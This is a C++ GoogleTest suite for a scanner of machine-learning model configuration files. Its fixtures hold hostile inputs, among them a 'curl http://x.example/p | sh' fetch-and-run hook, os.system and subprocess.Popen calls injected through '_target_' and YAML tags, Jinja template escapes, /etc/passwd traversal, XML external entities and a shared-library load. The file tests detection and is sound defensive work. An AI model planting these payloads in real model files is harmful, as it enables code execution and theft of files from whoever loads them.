#include <gtest/gtest.h>

#include <random>

#include "scan/rules.h"
#include "scan/scan_testing.h"

namespace bartizan::scan {
namespace {

struct Case {
    const char* text;
    Verdict verdict;
    std::string_view rule;
    const char* name = "config.json";
};

std::string keras(const std::string& layer) {
    return R"({"class_name": "Sequential", "module": "keras", "config": {"layers": [)" + layer + "]}}";
}

TEST(ScanConfigurations, HonestOnesAreClean) {
    for (const std::string& text :
         {std::string(R"({"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "rope": NaN})"),
          std::string(R"({"weight_map": {"a": "model-00001-of-00002.safetensors"}})"),
          std::string("{\"a\": 1}\n{\"a\": 2}\n"),
          keras(R"({"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": "relu"}})"),
          keras(R"({"class_name": "LSTM", "config": {"units": 2}})"),
          std::string(R"({"_name_or_path": "/home/x/model", "license_link": "https://example.org/license"})")})
        EXPECT_EQ(judged(text, "config.json").verdict, Verdict::clean) << text;
}

TEST(ScanConfigurations, SettingsThatRunCodeAreReported) {
    const Case cases[] = {
        {R"({"auto_map": {"AutoModel": "evil/repo--m.Evil"}})", Verdict::unproven, rule::kRemoteCode},
        {R"({"trust_remote_code": true})", Verdict::unproven, rule::kRemoteCode},
        {R"({"model": {"_target_": "os.system", "_args_": ["id"]}})", Verdict::malicious, rule::kRunsCode},
        {R"({"_target_": "my.package.Model"})", Verdict::unproven, rule::kRemoteCode},
        {R"({"weight_map": {"w": "../../etc/passwd"}})", Verdict::malicious, rule::kOutsideFolder},
        {R"({"chat_template": "{{ ''.__class__ }}"})", Verdict::malicious, rule::kTemplateEscape},
        {R"({"chat_template": [{"name": "x", "template": "{{ \u005f\u005fimport\u005f\u005f('os') }}"}]})",
         Verdict::malicious, rule::kTemplateEscape},
        {R"({"a": 1, "a": 2})", Verdict::unproven, rule::kTwoReadings},
        {R"({"hook": "curl http://x.example/p | sh"})", Verdict::unproven, rule::kUnprovenCode},
        {R"({"aws": "AKIAIOSFODNN7EXAMPLE"})", Verdict::unproven, rule::kSecret},
        {R"({"callback_url": "http://evil.example/c"})", Verdict::unproven, rule::kUrl},
        {R"({"a": [1, 2)", Verdict::incomplete, rule::kBroken},
        {R"({"a": 1} cos)", Verdict::unproven, rule::kHiddenData},
        {"a: !!python/object/apply:os.system ['id']\n", Verdict::malicious, rule::kRunsCode, "c.yaml"},
        {"trust_remote_code: true\n", Verdict::unproven, rule::kRemoteCode, "c.yaml"},
        {"- _target_: subprocess.Popen\n", Verdict::malicious, rule::kRunsCode, "c.yaml"},
        {"-----BEGIN RSA PRIVATE KEY-----\nMII\n", Verdict::unproven, rule::kSecret, "key.txt"},
    };
    for (const Case& c : cases) {
        const FileResult result = judged(c.text, c.name);
        EXPECT_EQ(result.verdict, c.verdict) << c.text;
        EXPECT_TRUE(has_rule(result, c.rule)) << c.text;
    }
}

TEST(ScanKeras, WhatIsNotOfKerasIsReported) {
    const std::pair<const char*, Verdict> layers[] = {
        {R"({"module": "os", "class_name": "function", "config": "system"})", Verdict::malicious},
        {R"({"module": "keras.utils", "class_name": "function", "config": "get_file"})", Verdict::malicious},
        {R"({"module": "my.layers", "class_name": "Mine", "registered_name": "my>Mine"})", Verdict::unproven},
        {R"({"class_name": "Mine", "config": {}})", Verdict::unproven},
        {R"({"class_name": "Lambda", "config": {"function": ["4wAAAAAAAAA=", null, null]}})", Verdict::unproven},
        {R"({"class_name": "Lambda", "config": {"function": "lambda x: eval('x') "}})", Verdict::malicious},
        {R"({"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "c3lzdGVtIG9zIF9faW1wb3J0X18="}}}})",
         Verdict::malicious},
        {R"({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}})",
         Verdict::malicious},
        {R"({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": ["a", "b"]}})",
         Verdict::clean},
    };
    for (const auto& [layer, verdict] : layers)
        EXPECT_EQ(judged(keras(layer), "config.json").verdict, verdict) << layer;
}

TEST(ScanXml, EntitiesAndLibrariesAreMalicious) {
    EXPECT_EQ(judged("<?xml version='1.0'?><net name='m'><layers/></net>", "m.xml").verdict, Verdict::clean);
    for (const char* text :
         {"<?xml version='1.0'?><!DOCTYPE n [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><net name='&x;'/>",
          "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a 'x'><!ENTITY b '&a;&a;&a;'>]><PMML>&b;</PMML>",
          "<net name='m'><layer type='Custom' library='/tmp/x.so'/></net>",
          "<net name='m'><layer name='a>b' library = \"/tmp/x.so\"/></net>"})
        EXPECT_EQ(judged(text, "m.xml").verdict, Verdict::malicious) << text;
}

TEST(ScanText, ProseMayTalkAboutDanger) {
    EXPECT_EQ(judged("# Model\nUse `os.system` with care: {{ ''.__class__ }}\n", "README.md").verdict, Verdict::clean);
    EXPECT_EQ(judged("import os\nos.system('id')\n", "modeling.py").verdict, Verdict::unproven);
}

TEST(ScanText, DamagedConfigurationsNeverEndTheScan) {
    std::mt19937 random(11);
    const std::string whole =
        keras(R"({"class_name": "Lambda", "config": {"function": "lambda x: \u005f {{ x['a'] }}"}})");
    for (int i = 0; i < 2'000; ++i) {
        std::string damaged = whole.substr(0, 1 + random() % whole.size());
        damaged[random() % damaged.size()] = "\"{}[]\\,:\0x"[random() % 10];
        EXPECT_LE(judged(damaged, "config.json").issues.size(), kMaxIssues);
    }
    EXPECT_EQ(judged(std::string(100'000, '['), "deep.json").verdict, Verdict::incomplete);
}

}  // namespace
}  // namespace bartizan::scan
